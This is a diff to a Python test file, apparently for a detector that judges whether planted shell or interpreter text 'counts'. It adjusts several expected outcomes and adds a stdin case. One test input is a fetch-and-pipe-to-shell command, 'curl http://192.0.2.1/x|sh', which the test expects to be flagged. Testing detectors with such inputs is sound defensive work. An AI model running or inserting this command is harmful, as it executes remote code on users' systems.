@@ -135,14 +135,24 @@ def test_a_judgement_of_nothing_is_no_detection():
     ("fields", "does"),
     [
         ({"language": "python", "variable": "PYTHONSTARTUP"}, True),
-        ({"language": "python"}, False),
-        ({"language": "shell"}, False),
+        ({"language": "python"}, True),
+        ({"language": "shell"}, True),
+        ({"language": "shell", "descriptor": 0}, False),
         ({"language": "shell", "text": "ls"}, False),
         ({"language": "shell", "text": "python3 -c 1"}, True),
         ({"language": "shell", "text": "ls", "variable": "PAGER"}, False),
         ({"language": "shell", "text": "curl http://192.0.2.1/x|sh"}, True),
     ],
-    ids=["a variable's", "unseen", "unseen shell text", "plain", "an interpreter", "a variable's plain", "an act"],
+    ids=[
+        "a variable's",
+        "unseen",
+        "unseen shell text",
+        "unseen on stdin",
+        "plain",
+        "an interpreter",
+        "a variable's plain",
+        "an act",
+    ],
 )
 def test_what_is_planted_counts_by_what_it_is_or_does(fields, does):
     found = reading("sh", "-c", "ls")
